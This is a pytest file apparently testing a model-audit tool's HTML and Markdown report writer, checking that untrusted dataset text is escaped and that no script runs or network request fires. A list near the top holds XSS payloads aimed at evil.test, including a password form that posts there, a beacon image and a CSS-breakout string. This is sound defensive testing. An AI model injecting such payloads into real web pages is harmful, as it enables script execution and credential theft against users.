"""The report says what the file holds, shows untrusted text as text and loads nothing."""

import base64
import json
import re
import shutil
from dataclasses import replace
from html.parser import HTMLParser
from xml.etree import ElementTree

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from saliency_core.analysis.error_slices import COLUMNS, keep_discovered
from saliency_core.analysis.kept_suspects import HARMFUL, NONE, UNTESTED, keep_suspects
from saliency_core.cli import app
from saliency_core.errors import UserError
from saliency_core.output.rendering import css_text, escape_markdown
from saliency_core.output.report import build_report, write_report
from saliency_core.quality.findings import check_data
from saliency_core.shortcuts.presentation import shortcut_doubt
from saliency_core.shortcuts.suspects import Thresholds, suspects
from saliency_core.store import (
    open_store,
    open_writer,
    save_slice,
    set_verdict,
)
from saliency_core.store.query.editing import joined
from saliency_core.store.query.terms import quote
from saliency_core.store.read.results import set_warning
from tests.support.notes import set_note
from tests.support.store_made_up import DATASET, LABELS, MODEL, SETTINGS, example, write_all

EVIL = "http://evil.test/"
PAYLOADS = [
    f"<script src={EVIL}a.js></script><script>window.hit=1</script>",
    "<img src=x onerror='window.hit=1'>",
    "<svg onload='window.hit=1'><circle r=1></svg>",
    "<a href='javascript:window.hit=1'>click</a> [click](javascript:window.hit=1)",
    f"<img src={EVIL}beacon.png>",
    f"<style>@import url({EVIL}a.css);</style>",
    f"<form action={EVIL}><input type=password name=p></form>",
    "<div style='position:fixed;inset:0;background:red'>over</div>",
    f"![picture]({EVIL}b.png) <{EVIL}> {EVIL} www.evil.test :red[x] $x$",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=hit=1>'>",
]
ALLOWED = set(
    "html head meta title style body main h1 h2 p section div span b br ul li table thead tbody "
    "tr th td figure figcaption img header nav ol a h3".split()
)


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    path = tmp_path_factory.mktemp("report") / "a.sqlite"
    with open_writer(path) as writer:
        write_all(writer, [example(n) for n in range(60)] + [example(60, "")])
    save_slice(path, "europe", "meta.region:EU", "sold there")
    set_note(path, 1, "id-3", "is really positive", "positive")
    set_verdict(path, 1, "people", "negative", "spurious", "gives it away")
    return open_store(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A file in which every text that a stranger can set is an attack."""
    path = tmp_path_factory.mktemp("hostile") / "a.sqlite"
    labels = tuple(f"{number}{text}" for number, text in enumerate(PAYLOADS[:3]))
    rows = [
        replace(
            example(n, text=f"{PAYLOADS[n % 11]} people"),
            id=f"{PAYLOADS[n % 11]}{n}",
            label=labels[n % 3],
            metadata={PAYLOADS[9]: PAYLOADS[n % 2]},
        )
        for n in range(44)
    ]
    model = replace(MODEL, name=PAYLOADS[0], label_names=labels, lm_head=PAYLOADS[2])
    dataset = replace(DATASET, name=PAYLOADS[1], source=PAYLOADS[5], columns={"text": PAYLOADS[4]})
    settings = replace(SETTINGS, target=f"class:{labels[0]}")
    with open_writer(path) as writer:
        from tests.support import store_made_up

        kept, store_made_up.LABELS = store_made_up.LABELS, labels
        try:
            write_all(writer, rows, model=model, dataset=dataset, settings=settings)
        finally:
            store_made_up.LABELS = kept
    for number, text in enumerate(PAYLOADS):
        save_slice(path, text, "wrong", text)
        set_note(path, 1, rows[number].id, text, labels[0])
    for word in ("people", "img", "script"):
        set_verdict(path, 1, word, labels[0], "spurious", PAYLOADS[6])
    found, control = suspects(open_store(path).run())
    renamed = found.assign(
        feature=[PAYLOADS[n % 11] for n in range(len(found))], assessment="none!"
    )
    keep_suspects(open_store(path).run(1), renamed, control)
    keep_discovered(
        open_store(path).run(1), pd.DataFrame([discovered(PAYLOADS[3])], columns=COLUMNS)
    )
    check_data(open_store(path).run(1))
    return open_store(path)


def discovered(where):
    """Return a row of discovered slices."""
    return [where, 40, 20, 0.5, 0.35, 0.65, 0.1, 5.0, 16.0, 1e-6, 1e-4, []]


class Page(HTMLParser):
    """Collects tags, attributes and the text a reader sees."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.seen, self.styles, self.inside = [], [], [], ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.inside = tag

    def handle_data(self, data):
        (self.styles if self.inside == "style" else self.seen).append(data)

    def handle_endtag(self, tag):
        self.inside = ""

    @property
    def text(self):
        return " ".join("".join(self.seen).split())


def html_of(store, tmp_path, where="", **choices):
    write_report(store.run().filter(where), tmp_path / "a.html", **choices)
    return (tmp_path / "a.html").read_text(encoding="utf-8")


def charts_of(page):
    head = "data:image/svg+xml;base64,"
    sources = [attrs["src"] for tag, attrs in page.tags if tag == "img"]
    assert all(source.startswith(head) for source in sources)
    return [base64.b64decode(source.removeprefix(head)).decode() for source in sources]


def test_a_report_says_what_the_file_holds(store, tmp_path):
    text = Page(html_of(store, tmp_path)).text
    assert "{" not in text, "a sentence shows the name of a value instead of the value"
    right, wrong = store.run().filter("right").count(), store.run().filter("wrong").count()
    assert f"Accuracy {right / (right + wrong):.1%}".replace(" ", "") in text.replace(" ", "")
    for part in [
        "61 examples",
        "Accuracy and confidence",
        "This report uses layer 2",
        "europe",
        "sold there",
        "gives it away",
        "is really positive",
        "made_up.csv",
        "a warning",
        "Limits",
        "ICML 2023",
    ]:
        assert part in text, part
    first = (
        store.run().filter("wrong").examples(sort="confidence", descending=True, limit=1).iloc[0]
    )
    assert f"labelled {first['gold']}, predicted {first['predicted']}" in text
    assert f"id {first['id']}" in text
    for steps in ("spurious for negative", "corrected label of 1 example"):
        assert steps in text.partition("What to do next")[2]


def test_a_slice_is_set_against_the_whole(store, tmp_path):
    where = "meta.region:EU"
    text = Page(html_of(store, tmp_path, where=where, examples=3)).text
    assert f"contains {store.run().filter(where).count()} of the 61 audited examples" in text
    assert text.count(", id id-") == 3


def test_suspects_are_shown_where_they_were_kept(store, tmp_path):
    assert "Possible shortcuts" not in Page(html_of(store, tmp_path)).text
    table, control = suspects(store.run(), null_repeats=2, thresholds=Thresholds(alpha=1))
    table = table.assign(assessment=UNTESTED, leader="")
    first = table[table["where"] != ""].iloc[0]
    table.loc[first.name, "assessment"] = HARMFUL
    keep_suspects(store.run(), table, control)
    text = Page(html_of(open_store(store.path), tmp_path)).text
    row = f"{first['feature']}{first['class']}{HARMFUL}not judged{first['examples']}"
    assert row.replace(" ", "") in text.replace(" ", "")
    judged = table[(table["feature"] == "people") & (table["class"] == "negative")]
    assert f"peoplenegative{UNTESTED}spurious{judged['examples'].item()}".replace(" ", "") in (
        text.replace(" ", "")
    )
    assert (
        f"For {len(table) - 2:,} other features that account for much of the saliency, the effect"
        in text
    )
    assert "Sanity check" in text
    predicted = store.run().filter(joined(f"predicted:{quote(first['class'])}", first["where"]))
    assert f"In {predicted.count():,} of these " in shortcut_doubt(
        open_store(store.path).run().filter()
    )
    assert shortcut_doubt(open_store(store.path).run().filter("confidence>2")) == ""
    keep_suspects(store.run(), table.assign(assessment=NONE), {**control, "repeats": 0})
    assert shortcut_doubt(open_store(store.path).run().filter()) == ""
    text = Page(html_of(open_store(store.path), tmp_path)).text
    assert f"{HARMFUL}not judged" not in text
    assert "Sanity check with shuffled labels: not run." in text


def test_a_filter_that_asks_for_wrong_predictions_has_no_accuracy(store, tmp_path):
    save_slice(store.path, "mistakes", "wrong", "")
    right, wrong = (store.run().filter(term).count() for term in ("right", "wrong"))
    total = right + wrong
    for where in ("wrong", "slice:mistakes", "gold:negative predicted:positive"):
        text = Page(html_of(open_store(store.path), tmp_path, where=where)).text
        assert "accuracy does not apply" in text
        assert f"{wrong:,} of {total:,} predictions are wrong ({wrong / total:.1%})" in text
        for nonsense in ("Precision", "Calibration", "The model is right on", "0.0% to"):
            assert nonsense not in text.partition("Saved slices")[0], nonsense
    assert "all wrong, as the filter asks" in text


def test_links_lead_to_sections_and_nowhere_else(store, tmp_path):
    page = Page(html_of(store, tmp_path))
    links = [attrs["href"] for tag, attrs in page.tags if tag == "a"]
    anchors = [attrs["id"] for _, attrs in page.tags if "id" in attrs]
    assert len(anchors) == len(set(anchors))
    assert sorted(links) == sorted(f"#{anchor}" for anchor in anchors)


def test_the_folders_of_the_auditors_machine_stay_there(tmp_path):
    path = tmp_path / "a.sqlite"
    model = replace(MODEL, name="/home/ann/secret/reviews", lm_head="/home/ann/secret/base")
    dataset = replace(DATASET, source="/home/ann/secret/made_up.csv")
    with open_writer(path) as writer:
        write_all(writer, [example(n) for n in range(20)], model=model, dataset=dataset)
    set_warnings = "the head of /home/ann/secret/base is tied"
    set_warning(path, 1, "the head", set_warnings)
    text = Page(html_of(open_store(path), tmp_path)).text
    assert "Audit of “reviews” on “made up”" in text
    assert "the head of base is tied" in text
    assert "secret" not in text
    assert str(tmp_path) not in text


def test_slices_that_were_discovered_are_shown(store, tmp_path):
    assert "Where the model is wrong most often" not in Page(html_of(store, tmp_path)).text
    found = pd.DataFrame([discovered("meta.region:EU")], columns=COLUMNS)
    keep_discovered(store.run(), found)
    text = Page(html_of(open_store(store.path), tmp_path)).text
    assert "“region”isEU402050.0%35.0%to65.0%10.0%" in text.replace(" ", "")
    keep_discovered(store.run(), found.head(0))
    text = Page(html_of(open_store(store.path), tmp_path)).text
    assert "no slice in which the model is wrong more often than chance" in text


def test_the_quality_of_the_data_is_shown_once_it_was_checked(store, tmp_path):
    assert "Data quality" not in html_of(store, tmp_path)
    copy = tmp_path / "copy.sqlite"
    shutil.copy(store.path, copy)
    found = check_data(open_store(copy).run())
    text = Page(html_of(open_store(copy), tmp_path)).text
    assert "Data quality" in text
    for finding in found.findings:
        assert finding.message in text


def test_charts_are_pictures_that_hold_nothing_live(hostile, store, tmp_path):
    for opened in (store, hostile):
        drawn = charts_of(Page(html_of(opened, tmp_path)))
        assert len(drawn) >= 4
        for svg in drawn:
            for element in ElementTree.fromstring(svg).iter():
                tag = element.tag.rpartition("}")[2]
                assert tag in {"svg", "g", "path", "rect", "line", "text", "defs", "clipPath"}, tag
                assert not any(
                    name.lower().startswith("on") or "href" in name for name in element.attrib
                )


def test_no_text_of_the_data_becomes_part_of_the_page(hostile, tmp_path):
    written = html_of(hostile, tmp_path, where="-id:nobody", title=PAYLOADS[0])
    page = Page(written)
    assert {tag for tag, _ in page.tags} <= ALLOWED
    for tag, attrs in page.tags:
        assert not any(name.startswith("on") or name == "style" for name in attrs)
        assert attrs.get("href", "#").startswith("#")
        assert tag == "img" or "src" not in attrs
    assert EVIL not in "".join(page.styles)
    assert "url(" not in "".join(page.styles)
    for payload in PAYLOADS:
        assert " ".join(payload.split()) in page.text


def test_markdown_shows_every_text_as_text(hostile, tmp_path):
    write_report(hostile.run().filter(), tmp_path / "a.md", title=PAYLOADS[8])
    written = (tmp_path / "a.md").read_text(encoding="utf-8")
    shown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = shown.parse(written)
    inner = [child for token in tokens for child in token.children or []]
    kinds = {token.type for token in [*tokens, *inner]}
    assert not kinds & {"html_block", "html_inline", "image", "link_open", "fence", "code_block"}
    page = Page(shown.render(written))
    for payload in PAYLOADS:
        assert " ".join(payload.split()) in page.text
    assert not re.search(r"https?://", written)


@pytest.mark.parametrize(
    "text", ["# a", "- a", "1. a", "+ a", "a | b", "x_y_z", "=== a", "2) b", "12. c", "-0.5 d"]
)
def test_markdown_keeps_marks_that_begin_a_line(text):
    rendered = MarkdownIt().enable("table").render(escape_markdown(text))
    assert Page(rendered).text == text
    assert rendered.startswith("<p>")


def test_the_page_forbids_what_it_does_not_need(store, tmp_path):
    metas = [attrs for tag, attrs in Page(html_of(store, tmp_path)).tags if tag == "meta"]
    (policy,) = [m["content"] for m in metas if m.get("http-equiv")]
    assert policy.startswith("default-src 'none'")
    assert "script-src" not in policy


@pytest.mark.slow
def test_in_chromium_nothing_runs_and_nothing_is_fetched(hostile, tmp_path):
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("Chromium is not installed")
    from playwright.sync_api import sync_playwright

    html_of(hostile, tmp_path)
    asked = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.goto((tmp_path / "a.html").as_uri())
        assert page.evaluate("window.hit") is None
        broken = "[...document.images].filter(i => !i.complete || !i.naturalWidth).length"
        assert page.evaluate(broken) == 0
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        page.set_viewport_size({"width": 390, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        browser.close()
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []


def test_without_labels_it_says_so(tmp_path):
    path = tmp_path / "a.sqlite"
    with open_writer(path) as writer:
        write_all(writer, [replace(example(n), label=None) for n in range(20)])
    text = Page(html_of(open_store(path), tmp_path)).text
    assert "These examples have no labels, so right and wrong are unknown" in text
    assert "The least confident predictions" in text
    assert "Accuracy and confidence" not in text


def test_a_noted_label_that_the_model_lacks_is_shown_as_the_dataset_has_it(tmp_path):
    path = tmp_path / "a.sqlite"
    with open_writer(path) as writer:
        write_all(writer, [replace(example(n), label=f"odd {n}") for n in range(4)])
    set_note(path, 1, "id-3", "a class of its own")
    (section,) = [
        section
        for section in build_report(open_store(path).run().filter()).sections
        if section.title == "What reviewers decided"
    ]
    (row,) = section.blocks[-1].rows
    assert (row[:2], row[3:]) == (["id-3", "odd 3"], ["unchanged", "a class of its own"])


def test_what_cannot_be_reported_says_so(store, tmp_path):
    def refused(output, where="", **choices):
        with pytest.raises(UserError) as caught:
            write_report(store.run().filter(where), output, **choices)
        return str(caught.value)

    assert refused(tmp_path / "a.html", where="id:nobody") == (
        "The slice 'id:nobody' contains no audited examples; there is nothing to report."
    )
    assert refused(tmp_path / "a.doc") == (
        f"{tmp_path / 'a.doc'} has no ending that names a format; choose --format html, markdown."
    )
    assert refused(store.path, format="html") == (
        f"{store.path} is the database itself; choose another --output."
    )
    assert refused(tmp_path / "no" / "a.html") == (
        f"{tmp_path / 'no' / 'a.html'} can't be written: No such file or directory."
    )


def test_the_command_writes_beside_the_database(store):
    printed = CliRunner().invoke(app, ["report", "--db", str(store.path), "--json"])
    written = store.path.with_name("a-report.html")
    assert json.loads(printed.stdout)["output"] == str(written)
    assert written.read_text(encoding="utf-8").startswith("<!doctype html>")


def test_many_classes_get_a_table_instead_of_charts(tmp_path, monkeypatch):
    from tests.support import store_made_up

    labels = tuple(f"intent {n}" for n in range(60))
    monkeypatch.setattr(store_made_up, "LABELS", labels)
    path = tmp_path / "a.sqlite"
    with open_writer(path) as writer:
        rows = [replace(example(n), label=labels[n % 60]) for n in range(300)]
        write_all(writer, rows, model=replace(MODEL, label_names=labels))
    page = Page(html_of(open_store(path), tmp_path))
    assert "The 40 of 60 classes with the most errors" in page.text
    assert len(charts_of(page)) <= 4
    assert "The most frequent confusions" in page.text


def test_sections_stand_in_the_order_a_reader_needs(store):
    keep_suspects(store.run(), *suspects(store.run(), null_repeats=2))
    report = build_report(store.run().filter())
    titles = [section.title for section in report.sections]
    assert titles[:2] == ["In brief", "What to do next"]
    assert titles[-2:] == ["How this was measured", "Limits"]
    assert titles.index("Possible shortcuts") < titles.index("Most salient words")
    assert LABELS[0] in report.appendix[0].blocks[0].rows[0]


def test_a_title_in_a_style_sheet_is_only_a_string():
    hostile = '"; } @import url(http://evil.test/a.css); </style><script>\\'
    held = css_text(hostile)
    assert re.fullmatch(r'"(?:[A-Za-z0-9]|\\[0-9a-f]+ )*"', held)
    back = re.sub(r"\\([0-9a-f]+) ", lambda found: chr(int(found[1], 16)), held[1:-1])
    assert back == hostile
